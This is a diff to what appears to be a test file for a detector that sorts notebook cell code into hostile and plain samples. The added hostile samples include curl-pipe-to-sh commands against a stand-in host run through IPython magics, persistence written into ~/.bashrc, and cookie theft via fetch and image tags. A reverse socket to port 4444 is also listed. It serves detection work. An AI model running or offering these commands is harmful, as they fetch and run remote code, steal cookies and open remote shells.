@@ -18,6 +18,15 @@ HOSTILE = [
     "import requests\nexec(requests.get('http://a.invalid').text)",
     "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))",
     "getattr(__import__('os'), input())('x')",
+    "get_ipython().system('curl -s http://a.invalid/x | sh')",
+    "get_ipython().run_cell_magic('bash', '', 'curl http://a.invalid/x | sh')",
+    "c = 'curl -s http://a.invalid/x'\n!{c} | sh",
+    "%%python\nimport os\nos.system('curl http://a.invalid/x | sh')",
+    "%%perl\nsystem('curl http://a.invalid/x | sh');",
+    "%%writefile ~/.bashrc\ncurl http://a.invalid/x | sh",
+    "%%javascript\nfetch('https://a.invalid/?' + document.cookie)",
+    "%%html\n<script>new Image().src = '//a.invalid/?' + document.cookie</script>",
+    "open('/root/.bashrc', 'a').write('x')",
 ]
 PLAIN = [
     "import torch\nx = torch.zeros(3)",
@@ -26,6 +35,12 @@ PLAIN = [
     "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
     "import requests\nimage = requests.get('https://a.example/cat.png')",
     "%matplotlib inline\nimport matplotlib",
+    "%%javascript\nIPython.OutputArea.auto_scroll_threshold = 9999",
+    "%%html\n<style>td { text-align: left }</style>",
+    "%%writefile train.py\nimport torch",
+    "get_ipython().system('pip install x')",
+    "name = 'a'\n!ls {name} $name {other}",
+    "open('/content/out.txt', 'w').write('x')",
 ]
 
 
